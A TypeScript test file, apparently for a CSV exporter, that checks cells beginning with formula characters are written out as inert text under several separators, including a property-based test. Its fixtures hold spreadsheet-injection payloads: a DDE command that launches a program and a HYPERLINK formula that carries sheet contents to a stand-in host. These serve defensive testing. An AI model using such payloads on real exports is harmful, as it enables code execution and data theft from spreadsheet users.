import fc from 'fast-check';
import { expect, test } from 'vitest';
import { toCsv } from './to-csv.js';

/** Reads CSV as a spreadsheet with this separator would. */
function read(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let inside = false;
  for (let at = 0; at < text.length; at++) {
    const here = text[at] ?? '';
    if (inside && here === '"' && text[at + 1] === '"') {
      cell += '"';
      at += 1;
    } else if (here === '"' && (inside || cell === '')) inside = !inside;
    else if (!inside && (here === separator || here === '\n')) {
      rows.at(-1)?.push(cell.replace(/\r$/, ''));
      cell = '';
      if (here === '\n') rows.push([]);
    } else cell += here;
  }
  return rows.slice(0, -1);
}

const formula = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
const runs = new RegExp(`${formula.source}|^[\\t\\r\\n]`);

test.each([
  ['a sum', '=1+1', "'=1+1"],
  ['a program', "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  [
    'a link that carries the sheet away',
    '=HYPERLINK("http://x.example?"&A1,"Click")',
    '\'=HYPERLINK("http://x.example?"&A1,"Click")',
  ],
  ['a plus', '+43 660 1234567', "'+43 660 1234567"],
  ['a minus', '-2+3', "'-2+3"],
  ['an at sign', '@SUM(A1)', "'@SUM(A1)"],
  ['a tab', '\t=1+1', "'\t'=1+1"],
  ['a carriage return', '\r=1+1', "'\r'=1+1"],
  ['a line break', '\n=1+1', "'\n'=1+1"],
  ['spaces before', '  =1+1', "  '=1+1"],
  ['fullwidth', '\uff1d1+1', "'\uff1d1+1"],
  ['a new cell in the middle', 'a",=1+1,"b', 'a",\'=1+1,"b'],
  ['a new cell for who expects semicolons', 'a;=1+1;b', "a;'=1+1;b"],
  ['a new row in the middle', 'a\r\n=1+1\r\nb', "a\r\n'=1+1\r\nb"],
  ['plain words', 'Maria Ö. "Mitzi" Huber, Linz', 'Maria Ö. "Mitzi" Huber, Linz'],
  ['an address', 'maria@mail.example', 'maria@mail.example'],
  ['nothing', '', ''],
])('%s is text', (_, hostile, written) => {
  expect(read(toCsv([['id', hostile, 'end']]))).toEqual([['id', written, 'end']]);
});

test('numbers and empty cells are what they are', () => {
  expect(toCsv([[-5, 0.5, null, 'x']])).toBe('-5,0.5,,"x"\r\n');
});

test('separators and the byte order mark are for the reader to choose', () => {
  expect(toCsv([['a', 'b']], { separator: ';', bom: true })).toBe('\ufeff"a";"b"\r\n');
  expect(toCsv([])).toBe('');
});

test('whatever is in the cells, rows and cells stay apart, and nothing runs, whichever separator the reader expects', () => {
  const part = fc.constantFrom('=', '+', '-', '@', '"', "'", ',', ';', '\t', '\r', '\n', ' ', 'a', '1', '\uff1d');
  const cells = fc.array(
    fc.array(part, { maxLength: 8 }).map((parts) => parts.join('')),
    { minLength: 3, maxLength: 3 },
  );
  fc.assert(
    fc.property(
      fc.array(cells, { maxLength: 4 }),
      fc.constantFrom<',' | ';' | '\t'>(',', ';', '\t'),
      (rows, separator) => {
        const text = toCsv(rows, { separator });
        const back = read(text, separator);
        expect(back.map((row) => row.length)).toEqual(rows.map(() => 3));
        for (const cell of back.flat()) expect(cell).not.toMatch(runs);
        // Who expects another separator gets other cells, and none of them calculates either.
        for (const expected of [',', ';', '\t'])
          for (const cell of read(text, expected).flat()) expect(cell).not.toMatch(formula);
      },
    ),
    { numRuns: 2000 },
  );
});
